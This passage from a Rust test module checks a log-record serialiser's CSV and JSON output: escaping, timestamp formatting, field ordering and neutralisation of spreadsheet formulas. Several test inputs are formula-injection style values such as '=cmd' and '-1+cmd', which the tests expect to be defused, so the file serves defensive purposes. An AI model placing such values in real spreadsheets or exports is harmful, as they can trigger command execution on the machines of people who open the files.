        check(ua, "a;=1+1", "\"a;=1+1\"", "a;=1+1");
        check(ua, "a\t=1+1", "\"a\t=1+1\"", "a\t=1+1");
        // Numeric columns: numbers (negative ones too) and "absent" stay.
        check(Field::QuotaValue, "-1", "-1", "-1");
        check(Field::TotalRequestExecTime, "-0.5", "-0.5", "-0.5");
        check(Field::Bytes, "-", "-", "-");
        check(Field::Bytes, "-1+cmd", "\"'-1+cmd\"", "-1+cmd");
        check(Field::HttpStatusCode, "=1", "\"'=1\"", "=1");
        // Idempotent: a neutralised value read back and written again.
        assert!(!csv_cell_is_formula(Field::UserAgent, "'=1"));
        // The bridge's `host` column is a text column.
        let mut r = Record::new_ml();
        r.host = Cow::Borrowed("=cmd");
        for (formulas, want) in [(Formulas::Neutralised, ",,\"'=cmd\"\r\n"), (Formulas::Verbatim, ",,=cmd\r\n")] {
            let mut out = Vec::new();
            r.write_csv_row(&[Field::RequestUuid], true, formulas, &mut out);
            assert!(out.ends_with(want.as_bytes()), "{formulas:?}: {}", String::from_utf8_lossy(&out));
        }
    }

    #[test]
    fn message_framing() {
        let r = Record::new_ml();
        let mut out = Vec::new();
        write_ecls_message([&r, &r], &mut out);
        let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["data"].as_array().unwrap().len(), 2);
        assert_eq!(v["data"][0]["log_type"], "ML");
    }

    /// The escaping every path must agree with: the plain byte-by-byte
    /// definition, checked against the fast path and against serde_json.
    fn reference_escape(s: &str) -> String {
        let mut out = String::from("\"");
        for c in s.chars() {
            match c {
                '"' => out.push_str("\\\""),
                '\\' => out.push_str("\\\\"),
                '\n' => out.push_str("\\n"),
                '\r' => out.push_str("\\r"),
                '\t' => out.push_str("\\t"),
                '\u{0}'..='\u{1f}' => out.push_str(&format!("\\u{:04x}", c as u32)),
                _ => out.push(c),
            }
        }
        out.push('"');
        out
    }

    fn check_escape(s: &str, expected: &str) {
        let mut out = b"prefix".to_vec();
        write_json_str(&mut out, s);
        assert_eq!(std::str::from_utf8(&out[6..]).unwrap(), expected, "{s:?}");
        assert_eq!(std::str::from_utf8(&out[6..]).unwrap(), reference_escape(s), "{s:?}");
        let back: String = serde_json::from_slice(&out[6..]).unwrap();
        assert_eq!(back, s);
    }

    #[test]
    fn escaping_table() {
        check_escape("", r#""""#);
        check_escape("plain", r#""plain""#);
        check_escape("exactly8", r#""exactly8""#);
        check_escape("a \"quoted\" value", r#""a \"quoted\" value""#);
        check_escape("C:\\path\\to", r#""C:\\path\\to""#);
        check_escape("tab\there\nnew\rret", r#""tab\there\nnew\rret""#);
        check_escape("\u{0}\u{1}\u{1f}\u{7f}", "\"\\u0000\\u0001\\u001f\u{7f}\"");
        check_escape("\"", r#""\"""#);
        check_escape("\\", r#""\\""#);
        check_escape("0123456\"89abcdef\\", r#""0123456\"89abcdef\\""#);
        // Multi-byte UTF-8 (bytes >= 0x80) passes through unchanged.
        check_escape("Zürich – 東京 🚀", "\"Zürich – 東京 🚀\"");
        check_escape("ééééé\"ééééé", "\"ééééé\\\"ééééé\"");
    }

    #[test]
    fn escaping_at_every_position_of_long_clean_runs() {
        // A long clean run (many whole words), with each special byte put at
        // every offset, so word boundaries and the byte-wise tail are covered.
        let clean: String = "Mozilla/5.0 (X11; Linux x86_64) é東".chars().cycle().take(70).collect();
        check_escape(&clean, &reference_escape(&clean));
        for special in ['"', '\\', '\n', '\u{0}', '\u{1f}', ' ', '\u{7f}', 'é'] {
            for at in 0..=24 {
                let mut s: String = clean.chars().take(at).collect();
                s.push(special);
                s.extend(clean.chars().take(30));
                s.push(special);
                check_escape(&s, &reference_escape(&s));
            }
        }
        // Every ASCII byte value, in one string.
        let all: String = (0u8..0x80).map(char::from).collect();
        check_escape(&all, &reference_escape(&all));
    }

    #[test]
    fn integers_and_iso_millis_without_allocation() {
        for v in [0, 7, -7, 10, 1_555_711_021_034, i64::MAX, i64::MIN, -1_000] {
            let mut out = Vec::new();
            push_i64(&mut out, v);
            assert_eq!(out, v.to_string().as_bytes());
        }
        for ms in [0, 1, 999, 1_555_711_003_068, -1, -86_400_001, 253_402_300_799_999, 253_402_300_800_000, -62_167_219_200_001] {
            let mut out = Vec::new();
            push_iso_millis(&mut out, ms);
            assert_eq!(std::str::from_utf8(&out).unwrap(), time::format_iso_millis(ms), "{ms}");
        }
    }

    #[test]
    fn into_owned_keeps_every_value() {
        let line = String::from("k7q2 GET 0 0.0 200 Orders V2 HTTP/1.1 -");
        let mut r = Record::new_ml();
        for (f, v) in Field::ALL.iter().zip(line.split(' ').cycle()) {
            r.set(*f, v);
        }
        r.set(Field::Uri, String::from("/owned?x=1"));
        r.set(Field::HttpMethod, &line[5..8]);
        r.set_request_time_ms(1_555_711_003_068);
        r.stamp_observed(1_555_711_021_034);
        let expected_ecls = r.to_value(Shape::Ecls);
        let expected_ndjson = r.to_value(Shape::Ndjson);
        let expected: Vec<String> = r.fields.iter().map(|v| v.to_string()).collect();
        let owned: Record<'static> = r.into_owned();
        drop(line);
        assert_eq!(owned.fields.iter().map(|v| v.to_string()).collect::<Vec<_>>(), expected);
        assert_eq!(owned.get(Field::Uri), "/owned?x=1");
        // Common values are shared constants; the rest are owned copies.
        for f in Field::ALL {
            match &owned.fields[f.index()] {
                Cow::Borrowed(v) => assert!(shared_static(v).is_some(), "{f:?} {v}"),
                Cow::Owned(v) => assert!(shared_static(v).is_none() || *f == Field::RequestTime, "{f:?} {v}"),
            }
        }
        assert!(matches!(owned.fields[Field::HttpMethod.index()], Cow::Borrowed("GET")));
        assert_eq!(owned.to_value(Shape::Ecls), expected_ecls);
        assert_eq!(owned.to_value(Shape::Ndjson), expected_ndjson);
    }

    #[test]
    fn ndjson_ingestion_time_is_iso_millis() {
        let mut r = Record::new_ml();
        r.set_request_time_ms(1_555_711_003_068);
        r.stamp_observed(1_555_711_021_034);
        let v = r.to_value(Shape::Ndjson);
        assert_eq!(v["ingestion_time"], "2019-04-19T21:57:01.034Z");
        assert_eq!(v["sync_delay_ms"], 17966);
        assert_eq!(v.as_object().unwrap().len(), 42);
        // Member order as the stream writes it (serde_json's map sorts keys,
        // so look at the bytes).
        let mut out = Vec::new();
        r.write_json(Shape::Ndjson, &mut out);
        let text = String::from_utf8(out).unwrap();
        assert!(text.starts_with(r#"{"api_key":"","api_method_name":"","bytes":null,"#), "{text}");
        assert!(text.contains(r#","ingestion_time":"2019-04-19T21:57:01.034Z","log_type":"ML","#), "{text}");
        assert!(text.ends_with(r#","sub_org_uuid":"","sync_delay_ms":17966}"#), "{text}");
    }

    /// The member-by-member definition of both shapes, written plainly
    /// (loop over the fields, serde_json for each value), checked byte for
    /// byte against the unrolled serialiser.
    fn reference_json(r: &Record<'_>, shape: Shape) -> String {
        let s = |v: &str| serde_json::to_string(v).unwrap();
        let mut members = Vec::new();
        for &f in Field::ALL {
            if f == Field::LogType {
                let it = match (shape, r.ingestion_time) {
                    (Shape::Ecls, Some(ms)) => s(&ms.to_string()),
                    (Shape::Ecls, None) => s(""),
                    (Shape::Ndjson, Some(ms)) => s(&time::format_iso_millis(ms)),
                    (Shape::Ndjson, None) => "null".into(),
                };
                members.push(format!("\"ingestion_time\":{it}"));
            }
            let v = r.get(f);
            let value = match (shape, f.kind()) {
                (Shape::Ecls, _) | (Shape::Ndjson, Kind::Str) => s(v),
                _ if is_absent(v) => "null".into(),
                _ if is_json_number(v) => v.to_string(),
                _ => s(v),
            };
            members.push(format!("\"{}\":{value}", f.name()));
        }
        match (shape, r.sync_delay_ms) {
            (Shape::Ecls, Some(d)) => members.push(format!("\"sync_delay_ms\":\"{d}\"")),
            (Shape::Ecls, None) => {}
            (Shape::Ndjson, Some(d)) => members.push(format!("\"sync_delay_ms\":{d}")),
            (Shape::Ndjson, None) => members.push("\"sync_delay_ms\":null".into()),
        }
        format!("{{{}}}", members.join(","))
    }

    #[test]
    fn serialiser_matches_the_plain_definition() {
        let mut full = Record::new_ml();
        for (i, &f) in Field::ALL.iter().enumerate() {
            let v = match i % 5 {
                0 => format!("{i}"),
                1 => format!("v{i} \"q\" \\ é\n"),
                2 => "-".to_string(),
                3 => format!("0.{i}"),
                _ => String::new(),
            };
            full.set(f, v);
        }
        full.set_request_time_ms(1_555_711_003_068);
        full.stamp_observed(1_555_711_021_034);
        let mut skew = full.clone();
        skew.stamp_observed(1_555_711_000_000);
        for r in [Record::new_ml(), Record::default(), full, skew] {
            for shape in [Shape::Ecls, Shape::Ndjson] {
                let mut out = b"[".to_vec();
                r.write_json(shape, &mut out);
                assert_eq!(std::str::from_utf8(&out[1..]).unwrap(), reference_json(&r, shape), "{shape:?}");
            }
        }
    }
}
